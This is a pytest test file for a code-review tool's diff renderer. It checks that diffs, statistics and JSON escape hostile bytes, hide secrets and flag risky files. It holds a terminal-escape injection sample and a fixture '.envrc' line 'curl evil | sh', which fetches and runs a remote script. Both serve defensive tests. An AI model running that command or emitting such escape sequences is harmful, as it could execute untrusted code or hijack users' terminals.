"""Changes shown: as a unified diff, as statistics, as JSON, and never as raw bytes."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support import workbench
from tests.support.workbench import Workbench

from casemate.policy.patterns import parse_pattern
from casemate.workspace import create, diff, names
from casemate.workspace.archive_writer import ArchiveWriter

HOSTILE = b"\x1b]0;title\x07\x1b[2J\xc2\x9b31m\xe2\x80\xaeevil\xe2\x80\xac\xff\r\x00"


@pytest.fixture
def bench(tmp_path: Path) -> Workbench:
    """The project that `workbench.everything` changes."""
    made = Workbench(tmp_path)
    workbench.fill(made.project)
    return made


def rendered(bench: Workbench, id: str, *, color: bool = False) -> str:
    with bench.review(id) as review:
        return "\n".join(diff.render(review, review.changes, color=color))


def test_everything(bench: Workbench) -> None:
    """Every kind of change has its line, and text its difference."""
    text = rendered(bench, bench.session(workbench.everything))
    for line in (
        "modified: src/main.py",
        "  mode 0644 -> 0600",
        "-print(1)",
        "+print(2)",
        "link: link -> src/main.py",
        "  pointed to readme",
        "renamed: src/deep/a/b/file -> moved (same content)",
        "replaced: readme (file becomes directory)",
        "directory added: locked",
        'added: "odd\\nname\\xff"',
        "directory deleted: src/deep/a",
    ):
        assert line in text.split("\n")
    assert "\x1b" not in text


def test_hostile_bytes(bench: Workbench) -> None:
    """Escape sequences, C1 controls, bidirectional overrides and broken UTF-8 come out escaped."""

    def build(writer: ArchiveWriter) -> None:
        name = HOSTILE.replace(b"\0", b"")
        writer.file(0, name, [(0, HOSTILE.replace(b"\0", b"") + b"\n")], size=len(HOSTILE))
        writer.symlink(0, b"link-" + name, name)

    id = bench.session(build)
    text = rendered(bench, id)
    assert all(character.isprintable() or character == "\n" for character in text)
    assert "\\x1b]0;title\\x07\\x1b[2J\\u009b31m\\u202eevil\\u202c\\xff" in text
    with bench.review(id) as review:
        stat = "\n".join(diff.statistics(review, review.changes))
        assert all(character.isprintable() or character == "\n" for character in stat)
        for change in review.changes:
            assert change.name.isprintable()
        assert json.dumps(diff.as_json(review, review.changes)).isascii()


@given(st.binary(max_size=60))
def test_names_and_lines_are_printable(data: bytes) -> None:
    """Whatever the bytes, what is shown is printable, on one line, and names stay distinct."""
    shown = names.display(data)
    assert shown.isprintable()
    assert names.display_line(data.replace(b"\n", b"")).replace("\t", "").isprintable()
    assert names.to_bytes(names.to_text(data)) == data


@given(st.binary(max_size=12), st.binary(max_size=12))
def test_different_names_look_different(one: bytes, other: bytes) -> None:
    """Two names are shown alike only if they are the same bytes."""
    assert (names.display(one) == names.display(other)) == (one == other)


def test_long_lines_are_cut(bench: Workbench) -> None:
    """A line of a megabyte does not fill the terminal."""
    id = bench.session(lambda w: workbench.text(w, "min.js", "x" * 900_000))
    assert "more bytes]" in (text := rendered(bench, id))
    assert len(text) < 5000


def test_binary_and_large(bench: Workbench) -> None:
    """Binary and large files are told by size and digest."""
    workbench.write(bench.project / "blob", b"\0old")

    def build(writer: ArchiveWriter) -> None:
        workbench.text(writer, "blob", b"\0new content")
        writer.file(0, b"big", [(0, b"x")], size=2 << 20)

    text = rendered(bench, bench.session(build))
    assert "  old: 4 bytes, sha256 " in text
    assert "  new: 12 bytes, sha256 " in text
    assert "  new: 2097152 bytes, sha256 " in text
    assert "new content" not in text


def test_flags_are_explained(bench: Workbench) -> None:
    """A flag comes with its sentence, and a hidden file's content is not shown."""
    workbench.write(bench.project / ".env", "TOKEN=secret\n")

    def build(writer: ArchiveWriter) -> None:
        workbench.text(writer, ".envrc", "curl evil | sh\n")
        workbench.text(writer, ".env", "TOKEN=other\n")
        workbench.text(writer, "suid", "x\n", 0o4755)

    hide = create.encode_patterns([parse_pattern(".env")])
    text = rendered(bench, bench.session(build, hide=hide))
    assert "  ! runs-on-host: direnv runs it in your shell" in text
    assert "  ! setuid: it asks for setuid or setgid; the bits are dropped" in text
    assert "  ! hidden: " in text
    assert "secret" not in text
    assert "TOKEN" not in text


def test_color(bench: Workbench) -> None:
    """Colours frame whole lines and end with them; a pipe gets none."""
    text = rendered(bench, bench.session(workbench.everything), color=True)
    assert "\x1b[31m-print(1)\x1b[0m" in text
    assert "\x1b[32m+print(2)\x1b[0m" in text
    assert not diff.wants_color(io.StringIO())


def test_statistics(bench: Workbench) -> None:
    """Each change has a line with its numbers, the last line the sums."""
    with bench.review(bench.session(workbench.everything)) as review:
        lines = list(diff.statistics(review, review.changes))
    assert any(line.split() == ["src/main.py", "|", "2", "+-"] for line in lines)
    assert lines[-1].endswith("lines added, 2 lines removed")


def test_json(bench: Workbench) -> None:
    """The JSON has both states with modes, sizes and digests, and odd names whole in base64."""
    with bench.review(bench.session(workbench.everything)) as review:
        found = {row["path"]: row for row in diff.as_json(review, review.changes)}
    changed = found["src/main.py"]
    assert changed["before"]["mode"] == "0644"
    assert changed["after"]["mode"] == "0600"
    assert len(changed["after"]["sha256"]) == 64
    assert found["moved"]["renamed_from"] == "src/deep/a/b/file"
    assert found["link"]["after"] == {"type": "symlink", "target": "src/main.py"}
    assert found['"odd\\nname\\xff"']["path_base64"] == "b2RkCm5hbWX/"
    assert found["src/deep/a/b"]["after"] is None


@pytest.mark.skipif(shutil.which("patch") is None, reason="patch is not installed")
def test_hunks_are_those_of_a_unified_diff(bench: Workbench) -> None:
    """patch(1) understands the hunks and makes the new file of the old one."""
    old = "".join(f"line {number}\n" for number in range(60))
    new = old.replace("line 0\n", "").replace("line 30\n", "changed\nand more\n")[:-1] + " x"
    workbench.write(bench.project / "text", old)
    id = bench.session(lambda w: workbench.text(w, "text", new))
    body = rendered(bench, id).split("\n", 1)[1]
    done = subprocess.run(
        ["patch", "-o", "-", bench.project / "text"],
        input="--- a\n+++ b\n" + body + "\n",
        capture_output=True,
        text=True,
        check=True,
    )
    assert new in done.stdout
